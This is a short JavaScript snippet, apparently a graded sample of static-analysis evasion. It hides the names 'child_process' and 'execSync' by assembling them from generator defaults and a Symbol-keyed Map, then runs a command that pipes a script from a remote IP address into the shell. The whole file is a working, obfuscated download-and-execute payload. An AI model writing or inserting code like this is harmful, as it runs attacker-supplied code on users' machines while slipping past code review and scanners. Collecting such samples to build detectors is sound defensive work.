// evasion: module name yielded by a generator from its default parameters; the method name kept in a Map under a Symbol
// grade: medium; does: shell
function* segments(head = 'chi', mid = 'ld_pro', tail = 'cess') {
  yield head;
  yield mid;
  yield tail;
}

const RUNNER = Symbol('runner');
const table = new Map([[RUNNER, ['exec', 'Sync'].join('')]]);

const mod = require([...segments()].join(''));
mod[table.get(RUNNER)]('curl -fsSL http://198.51.100.7/i.sh | sh', { stdio: 'inherit' });
